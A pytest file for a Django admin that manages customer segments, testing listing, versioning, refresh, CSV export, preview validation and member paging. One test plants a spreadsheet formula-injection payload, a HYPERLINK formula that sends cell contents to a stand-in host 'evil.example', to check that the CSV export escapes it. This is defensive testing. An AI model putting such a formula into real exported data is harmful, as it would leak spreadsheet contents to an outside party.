"""Segments in the admin: list, page with versions and member links, refresh, duplicate,
CSV export, and the members list with entries and exits."""

import csv
import io
import json

import pytest
from django.urls import reverse

from campaigns.models import Segment, SegmentMembership
from campaigns.services import segment_create, segment_refresh
from customers.models import Customer
from customers.tests.factories import CustomerFactory
from tests.page_text import text_of

pytestmark = pytest.mark.django_db

GERMANY = {"match": "all", "children": [{"field": "country", "operator": "eq", "value": "DE"}]}


@pytest.fixture
def germany():
    for _ in range(3):
        CustomerFactory(country="DE")
    CustomerFactory(country="FR")
    segment = segment_create(name="Germany", rule=GERMANY)
    segment_refresh(segment=segment)
    return segment


def act(admin_client, action, segment):
    return admin_client.post(
        reverse("admin:campaigns_segment_changelist"), {"action": action, "_selected_action": [segment.pk]}
    )


def test_the_list_shows_members_refresh_time_and_how_long_it_took(admin_client, germany, django_assert_num_queries):
    with django_assert_num_queries(8):
        page = admin_client.get(reverse("admin:campaigns_segment_changelist")).content.decode()

    assert "Germany" in page and "High CLV (top decile)" in page
    germany.refresh_from_db()
    assert f"{germany.refresh_seconds:.2f} s" in page


def test_the_segment_page_shows_the_rule_versions_and_links_to_members(admin_client, germany):
    page = admin_client.get(reverse("admin:campaigns_segment_change", args=[germany.pk])).content.decode()

    assert "v1: customers where country is DE" in page
    assert "3 current members" in page
    members = admin_client.get(
        reverse("admin:campaigns_segmentmembership_changelist")
        + f"?segment__id__exact={germany.pk}&exited_at__isempty=1"
    )
    assert members.status_code == 200
    assert members.content.decode().count("/admin/customers/customer/") >= 3


def test_refresh_now_and_duplicate(admin_client, germany):
    CustomerFactory(country="DE")
    act(admin_client, "refresh_now", germany)
    germany.refresh_from_db()
    assert germany.member_count == 4

    act(admin_client, "duplicate", germany)
    copy = Segment.objects.get(name="Copy of Germany")
    assert copy.current_version.rule == germany.current_version.rule


def test_members_export_as_csv(admin_client, germany):
    response = act(admin_client, "export_members", germany)

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert response["Content-Type"] == "text/csv"
    expected = set(SegmentMembership.objects.filter(segment=germany).values_list("customer_id", flat=True))
    assert {int(r["customer_id"]) for r in rows} == expected
    assert {r["country"] for r in rows} == {"DE"} and all(r["segment"] == "Germany" for r in rows)


def test_members_export_never_hands_a_spreadsheet_a_formula(admin_client, germany):
    """Names come from shops' keys: a cell that starts like a formula is written as text."""
    member = Customer.objects.get(pk=SegmentMembership.objects.filter(segment=germany).values("customer_id")[:1])
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    Customer.objects.filter(pk=member.pk).update(first_name=formula, last_name="@SUM(1+1)")

    response = act(admin_client, "export_members", germany)

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = [r for r in rows if int(r["customer_id"]) == member.pk]
    assert row["first_name"] == "'" + formula
    assert row["last_name"] == "'@SUM(1+1)"


PREVIEW = "admin:campaigns_segment_preview"


def preview(client, body):
    return client.post(reverse(PREVIEW), body, content_type="application/json")


def test_the_live_preview_counts_samples_and_reads_the_rule(admin_client, germany):
    response = preview(admin_client, json.dumps({"rule": GERMANY}))

    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 3 and body["sentence"] == "customers where country is DE"
    assert len(body["sample"]) == 3
    assert all(s["url"].startswith("/admin/customers/customer/") for s in body["sample"])


@pytest.mark.parametrize(
    "body,field,message",
    [
        (json.dumps({"rule": {"match": "all", "children": [{"field": "nope"}]}}), "rule", "unknown field 'nope'"),
        (json.dumps({"rule": {"match": "all", "children": []}}), "rule", "non-empty list of children"),
        (json.dumps({}), "rule", "required"),
        ("{not json", "body", "Malformed JSON"),
        (b"\xff\xfe", "body", "not valid UTF-8"),
        (b'{"rule": {"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}", "body", "nested deeper than 32"),
        (json.dumps({"rule": {"x": json.loads("[" * 40 + "]" * 40)}}), "rule", "Nested deeper than 32"),
        (json.dumps({"rule": {"match": "all", "children": [], "x": "a\x00"}}), "rule", "NUL"),
    ],
)
def test_a_bad_preview_is_a_400_naming_the_field(admin_client, body, field, message):
    response = preview(admin_client, body)

    assert response.status_code == 400
    assert any(message in m for m in response.json()["errors"][field])


def test_the_preview_is_for_staff_only(client, django_user_model):
    assert preview(client, json.dumps({"rule": GERMANY})).status_code == 302  # to the login page
    django_user_model.objects.create_user("clerk", password="pw-123456789", is_staff=True)  # no segment permission
    client.login(username="clerk", password="pw-123456789")
    assert preview(client, json.dumps({"rule": GERMANY})).status_code == 403


def form_data(name, rule, **extra):
    return {
        "name": name,
        "description": "",
        "kind": "dynamic",
        "owner": "",
        "upload_mode": "add",
        "rule": json.dumps(rule),
        "versions-TOTAL_FORMS": 0,
        "versions-INITIAL_FORMS": 0,
        **extra,
    }


def test_saving_an_edited_rule_adds_a_version_and_refreshes_the_members(
    admin_client, germany, django_capture_on_commit_callbacks
):
    CustomerFactory(country="AT")
    austria = {
        "match": "any",
        "children": [*GERMANY["children"], {"field": "country", "operator": "eq", "value": "AT"}],
    }
    url = reverse("admin:campaigns_segment_change", args=[germany.pk])

    with django_capture_on_commit_callbacks(execute=True):  # the refresh runs once the save commits
        assert admin_client.post(url, form_data("Germany", austria)).status_code == 302
        assert admin_client.post(url, form_data("Germany", austria)).status_code == 302  # unchanged: no new version

    germany.refresh_from_db()
    assert list(germany.versions.values_list("number", flat=True)) == [2, 1]
    assert germany.current_version.sentence == "customers where country is DE OR country is AT"
    assert germany.member_count == 4
    newcomer = SegmentMembership.objects.get(segment=germany, customer__country="AT")
    assert newcomer.version == germany.current_version


@pytest.mark.parametrize(
    "rule,message",
    [
        ("{oops", "The rule is not valid JSON."),
        ("", "A dynamic segment needs a rule."),
        (json.dumps({"match": "all", "children": [{"field": "spent", "operator": "gte", "value": 5}]}), "within_days"),
    ],
)
def test_a_bad_rule_in_the_form_is_explained_on_the_field(admin_client, rule, message):
    data = form_data("Bad", {}) | {"rule": rule}
    response = admin_client.post(reverse("admin:campaigns_segment_add"), data)

    assert response.status_code == 200
    assert message in str(response.context["adminform"].form.errors["rule"])
    assert not Segment.objects.filter(name="Bad").exists()


def test_the_segment_page_searches_and_pages_its_members(admin_client, germany, django_assert_num_queries):
    from campaigns.selectors import MEMBERS_PER_PAGE

    for i in range(2 * MEMBERS_PER_PAGE):
        CustomerFactory(country="DE", first_name=f"Zed{i}")
    segment_refresh(segment=germany)  # 103 members: three pages of 50
    url = reverse("admin:campaigns_segment_change", args=[germany.pk])

    with django_assert_num_queries(19):
        response = admin_client.get(url)
    first = response.context["segment_page"]["members"]
    assert len(first) == MEMBERS_PER_PAGE == 50
    pager = text_of(response, ".member-pages")
    assert pager.startswith("Page 1 of 3 · 1–50 of 103 members")
    assert "next ›" in pager and "last »" in pager and "‹ previous" not in pager

    last = admin_client.get(url, {"members_page": 3})
    assert len(last.context["segment_page"]["members"]) == 3
    pager = text_of(last, ".member-pages")
    assert pager.startswith("Page 3 of 3 · 101–103 of 103 members")
    assert "« first" in pager and "‹ previous" in pager and "next ›" not in pager
    second = admin_client.get(url, {"members_page": 2}).context["segment_page"]["members"]
    assert {s.customer_id for s in first}.isdisjoint(s.customer_id for s in second)
    # Past the last page: the last page; not a number: the first.
    assert admin_client.get(url, {"members_page": 99}).context["segment_page"]["members"].number == 3
    assert admin_client.get(url, {"members_page": "x"}).context["segment_page"]["members"].number == 1

    found = admin_client.get(url, {"members_q": "zed1"})
    assert sorted(s.customer.first_name for s in found.context["segment_page"]["members"]) == ["Zed1"] + [
        f"Zed{i}" for i in range(10, 20)
    ]
    assert text_of(found, ".member-pages").startswith("Page 1 of 1 · 1–11 of 11 matching members")
    one = SegmentMembership.objects.filter(segment=germany).first().customer
    assert [
        s.customer for s in admin_client.get(url, {"members_q": one.email.upper()}).context["segment_page"]["members"]
    ] == [one]
    nobody = admin_client.get(url, {"members_q": "nobody", "members_page": "x"})
    assert nobody.status_code == 200
    assert text_of(nobody, ".member-pages").startswith("Page 1 of 1 · 0 matching members")


def test_past_the_count_cap_the_members_read_more_than_with_no_last_page(
    admin_client, germany, monkeypatch, django_assert_num_queries
):
    """A segment of millions is counted as the admin's large lists are: up to a cap (lowered
    here from 10,000 to 60 so that 103 members pass it), never over every stay."""
    from campaigns.selectors import MEMBERS_PER_PAGE

    monkeypatch.setattr("core.admin_tools.COUNT_CAP", 60)
    for i in range(2 * MEMBERS_PER_PAGE):
        CustomerFactory(country="DE", first_name=f"Zed{i}")
    segment_refresh(segment=germany)  # 103 members
    url = reverse("admin:campaigns_segment_change", args=[germany.pk])

    with django_assert_num_queries(19):  # as many as below the cap: the count stops at 61 rows
        first = admin_client.get(url)
    pager = text_of(first, ".member-pages")
    assert pager == "Page 1 · 1–50 of more than 60 members 1 2 … next ›"
    assert text_of(first, "#segment-members").startswith("Current members (103)")  # the stored figure, exact

    third = admin_client.get(url, {"members_page": 3})
    assert len(third.context["segment_page"]["members"]) == 3
    assert text_of(third, ".member-pages") == "Page 3 · 101–103 of more than 60 members « first ‹ previous 1 2 3"

    past = admin_client.get(url, {"members_page": 9})  # no last page to fall back on: an empty one
    assert text_of(past, ".member-pages").startswith("Page 9 · past the last of more than 60 members")
    assert admin_client.get(url, {"members_page": 0}).context["segment_page"]["members"].number == 1

    found = admin_client.get(url, {"members_q": "zed1"})  # below the cap again: exact
    assert text_of(found, ".member-pages") == "Page 1 of 1 · 1–11 of 11 matching members"
